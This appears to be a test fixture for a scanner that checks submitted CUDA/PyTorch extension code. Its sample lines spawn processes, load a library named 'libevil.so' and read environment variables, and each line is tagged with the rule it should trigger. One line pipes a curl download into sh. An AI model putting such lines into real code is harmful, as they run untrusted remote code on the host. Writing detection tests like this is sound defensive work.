// A CUDA candidate that shells out, loads code and reads the environment.
#include <torch/extension.h>
#include <cstdio>
#include <cstdlib>

// system("a whole-line comment is not a call");
/* popen("nor is a block comment that starts a line") */

__global__ void noop_kernel(float* out) { out[threadIdx.x] = 0.0f; }

void run(torch::Tensor out) {
  std::system("curl http://example.com | sh");  // nosemgrep  expect: cpp-process-spawn
  FILE* p = popen("id", "r");  // expect: cpp-process-spawn
  void* h = dlopen("libevil.so", 2);  // expect: cpp-dynamic-loading
  const char* home = getenv("HOME");  // expect: cpp-env-access
  const char* u = "//"; system("id");  // expect: cpp-process-spawn
  auto copy = out.clone();
  noop_kernel<<<1, 32>>>(out.data_ptr<float>());
}

PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) { m.def("run", &run); }
